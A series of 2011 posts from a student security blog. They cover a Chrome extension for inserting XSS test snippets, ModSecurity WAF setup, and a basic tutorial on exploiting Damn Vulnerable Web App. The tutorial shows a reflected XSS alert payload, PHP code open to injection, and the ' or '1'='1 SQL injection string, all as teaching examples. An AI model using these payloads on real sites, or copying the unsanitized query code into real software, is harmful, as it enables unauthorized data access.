Sunday, December 4, 2011

Chrome Extension for Easy XSS Insertion

I decided to venture into the world of Chrome extension-making this week. Surprisingly, it was extremely simple to make a basic extension. Getting the extension to interact with the actual code on the page (such as getting the element ID, etc.) was abit more difficult, but only took a few hours to get working.

Before I could create an extension, I needed an idea. So I decided to make an XSS, mySQL injection snippet manager. It's a fairly basic, but potentially useful little extension that adds a menu to Chrome's right-click context menu. When a user right clicks on a text box, the menu appears, allowing the user to select from a variety of popular XSS attack scripts. When they click one, it's added to the text box and the user can then submit the form and see if the site isvulnerable.

I am only advocating the use of this extension for testing web applications that you own. Do not use this on any other sites. Most of the XSS scripts come from (with permission), an excellent XSS resource.

Download Link:


Sunday, November 27, 2011

I Need a Project...

[Note: This post is just a brainstorm session. I apologize for the run-on sentences and possibly confusing flow, but I wanted to just pour out my ideas in the exact manner in which I think.]

I'm back from Fall break and getting ready to dive back into classes here at RIT for the Winter. I'll be taking classes in Wireless Networking,Databases, Computer Crime, and Sociology. I'm looking forward to a great quarter, but at the same time, I need a project. Not something for school, just a regular personal project. I'm still continuing to learn a lot about web application firewalls, and I'm thinking something along those lines, but maybe from a different approach. Brainstorming now:

I've been working on a number of Perl scripts for competition-based hack and defend scenarios. Scripts that lock users out, watch for un-authorized users to a system, etc. I can keep doing that, but I need a more detailed project.

I need to improve my PHP skills. I'm thinking about a vulnerable web app that teaches exploitation. That way it will help me, since I need to code the site and purposefully add vulnerabilities, and then I can secure it with a WAF when I'm done. But Damn Vulnerable Web App already exists. But it's not that detailed, only a few pages and very basic exploits. I'm thinking of something that can be more of a learning experience, something with step-by-step walkthroughs and demos of exploitable security flaws. It should also show the code/techniques necessary to protect against that vulnerability as well. I like this idea.

I'm trying to think of other ideas, but I keep coming back to a vulnerable web app / tutorial / teaching guide. There really needs to be a good, solid guide to web application vulnerabilities that lets the usersee exactly what is happening. I think I'm going to run with this. To the drawing board!

Wednesday, November 9, 2011

Mod Security Presentation

I will be giving a presentation on Friday at SPARSA (RIT's Computer Security Club). I will be talking about my experiences so far using ModSecurity and how it can be used to secure web applications. For a preview of my presentation, check out the Google Doc Presentation below:


Tuesday, November 1, 2011

Working with Web Vulnerabilities and Web Application Firewalls [Part 5 - Mod Security]

[Note: this is part five of a multi-part series of posts detailing my experiences with securing web applications, creating test environments for practicing and installing and operating a web application firewall. Web security is an extremely important part of ITsecurity since almost every major organization has a "web face." I will be exploring XSS, mySQL injection, and the use of web application firewalls to protect against these attacks.]

When we last left off in the series, I was demonstrating that Damn Vulnerable Web App is actually... vulnerable. But now it's time to move on and actually detect (and stop) hacking attacks through the use of a web application firewall known as Mod Security.

Intro to Mod Security
Mod Security is essentially afirewall module that can be added to an Apache web server to help detect, filter, and even block web attacks. It uses a complex set of rules based on signatures and regular expressions to determine whether or not a particular input is malicious. Unlike a traditional firewall, which merely analyzes source/destination addresses and perhaps port numbers or services, Mod Security is able to analyze the HTTP traffic that is passing over port 80 to the web server and determine the exact payload. This is extremely important because it enables us to block attacks that are entirely web-based.

Before installing mod_security, make sure you stop your server by running:
service httpd stop

Mod Security can be downloaded from however, the simplest method is to issue:

 yum install mod_security

Mod Security has a default set of rules and pattern matching techniques that it uses to detect attacks. For right now, we will be using the default rules. Hopefully in a future addition to this series I will delve more into the intricate settings to create a custom-tailored firewall. For now, I'll demonstrate Mod Security's features out-of-the-box.

Restart your Apache server:

service httpd start

And now, return to your DVWA homepage and login. For this demo, I will be attempting the same SQL injection attack that was performed in part four of this series. Watch what happens this time...Remember from before that the attack had succeeded, returning a list of every user account in the system. From a security standpoint, it's pretty obvious that the page you see above is a much-preferred response to an attack.

The Logs
Mod Security is extremely useful because, as shown above, it blocked the attack from occurring. However, it's also great to have logs of which events were blocked. Luckily, Mod Security does that as well.

The logs are stored in /var/log/httpd/modsec_audit.log. Looking at the logs immediately after attempting our OR '1' = '1 attack, the following log is shown:

This log message reveals why our attack was stopped. The attack matched a pattern that was outlined in the mySQL injection ruleset. The log entry also details the response that Mod Security took - in this case, displaying a 403 access denied error.

More to Come!
This example only scratches the surface (and barely, at that) of what ModSecurity can do. The configuration and rules can be changed and modified as needed to fit the needs of any web application. I hope to explore a lot more of the functionality behind Mod Security and perhaps write some custom rules. Stay tuned!

Monday, October 31, 2011

Working with Web Vulnerabilities and Web Application Firewalls [Part 4 - Basic Exploitation]

[Note: this is part four of a multi-part series of posts detailing my experiences with securing web applications, creating test environments for practicing and installing and operating a web application firewall. Web security is an extremely important part of IT security since almost every major organization has a "web face." I will be exploring XSS, mySQL injection, and the use of web application firewalls to protect against these attacks.]

There are hundreds of ways to exploita web application. Users can upload invalid file types to an app that doesn't check the file type, they can inject code into the pages, as well as retrieve data from a database that should not be retrieved. The focus of this series is mainly on using a web application firewall to prevent against attacks, so I will not be explaining every attack type with examples. However, I will be focusing on two injection attacks here that will demonstrate that the web application is vulnerable before I use a web application firewall to block those attacks. I will be giving basic examples of cross site scripting and mySQL injection.

Cross Site Scripting (XSS)
The first attack type I am going to attempt on our web application is cross site scripting. However, we must first understand what cross site scripting is and how it can be used against a web app. Remember in part one of this series, I mentioned that most web vulnerabilities come from users entering input that is not valid and that could contain malicious code. Cross site scripting takes advantage of the fact that a fair amount of web pages and applications fail to "sanitize" user input. Take a look at the following PHP code:

echo <pre>Hello $_GET['name']</pre>;

This code gets a variable called "name" and prints it out directly within the page as HTML code. The echo statement prints whatever follows it into the HTML code of the page. If we pass in the name "Robert," the following is reflected onto the page to the user:

Hello Robert

However, suppose we replace Robert with JavaScript code? We type the following into the name box:


Now, the code we just typed is reflected into the actual code of the page as it is displayed.echo <pre>Hello <script>alert('Hello')</script></pre>

This will cause an alert box to pop up for the user.

This form of XSS is known as reflected or non-persistent XSS because it only occurs if the additional code parameters are passed in at run time. The web page itself is not changed permanently. However, this vulnerability can be exploited by sending someone a URL with the parameters as seen in the screenshot above. A lot of XSS can be done directly through the URL bar. The example given above is very basic. However, imagine the security issues that could occur if instead of displaying an alert, an attacker loaded code from an externally hosted script (the "cross-site" in cross site scripting).

The second form of XSS (persistent or stored) allows users to inject code directlyinto the page that will be repeatedly reflected to users who load it. The code is usually stored in a database and then continually reflected. The attack is carried out the same way, except instead of simply being reflected back to the user, the script is saved an executed every time the page is loaded. Think of an visitor log that web page visitors can sign and leave comments. The information theysubmit is saved in a database and loaded each time the visitor log is displayed. If someone were to inject malicious code, it would be shown each time to the user. This form of XSS is much more dangerous.

mySQL Injection
mySQL injection is well documented around the web with thousands of tutorials on YouTube covering it. mySQL injection can range from a very simple, short line of code to an extremely complex and carefully crafted string to destroy adatabase. What it all comes down to, however, is creating a string that will "confuse" the PHP code into executing more commands than should be executed. Let's look at the following PHP code:

$name = $_GET['name'];
$result = mysql_query("SELECT * FROM people WHERE first_name='$name'");
while($row = mysql_fetch_array($result))
     echo $row['first_name'] . " " . $row['last_name'];
     echo "<br />";

It's fairly straightforward as to what this code does (prints out names from the database given a first name). But look at the way in which the code isoutputting the user-entered input: it's treating it like a single piece of text that is just inserted into the mySQL command. Suppose that the user doesn't enter a name, but instead enters mySQL commands? Let's look at the following code:

' or '1' = '1

This code is extremely common for testing mySQL injection vulnerabilities. When the PHP code prints out this string as the "name" in the code above, a very important tick-mark (') causes the code to read as:

WHERE first_name=' ' OR '1' = '1'

Essentially, we are crafting a string of code that fits nicely within the given mySQL code. The tick-marks line up and a complete statement is made. The statement "OR '1' = '1'" is used because it will always evaluate to true. What we are telling the database to do is "return all the rows where 1=1." In other words, return all of the rows. This is a great way to view data in the database that should not be viewed.

Progressing beyond a simple OR '1' = '1' statement, pretty much any SQL code can by inserted into the statement. This can be used to view other tables, return all the lists of users, grab additional columns, etc. Here is a great link to some SQL statements that may be helpful in exploitation.

Next in the Series
Now that we've discussed injection techniques and very common vulnerabilities, we are going to be using a web application firewall to prevent those attacks. There are many ways to protect against injection attacks (most notably the filtering andsanitation of user input) but we will be leaving the application vulnerable for the purpose of learning about the firewall.

Sunday, October 30, 2011

Working with Web Vulnerabilities and Web Application Firewalls [Part 3 - An Insecure Environment]

[Note: this is part three of a multi-part series of posts detailing my experiences with securing web applications, creating test environments for practicing and installing and operating a web application firewall. Web security is an extremely important part of IT security since almost every major organization has a "web face." I will be exploring XSS, mySQL injection, and the use of web application firewalls to protect againstthese attacks.]

Now that we have a basic database of information that we can use later on, we need a way of practicing our exploitation techniques (and eventually our protection techniques) on a web application. Luckily, there is a solution called "Damn Vulnerable Web App." DVWA is a PHP/mySQL environment that is designed with test pages and configuration that can make it purposefully vulnerable to a number of attack vectors. We will be installing it in order to eventually protect against the attacks, but also to attack (and learn).

Downloading DVWA
DVWA can be downloaded at the projectshome page: From the Fedora machine, download and extract the ZIP file from the download page. Next, the files need to be moved into the web directory. (If you don't have an Apache/PHP/mySQL server configured, please return to part two).

Installing DVWA
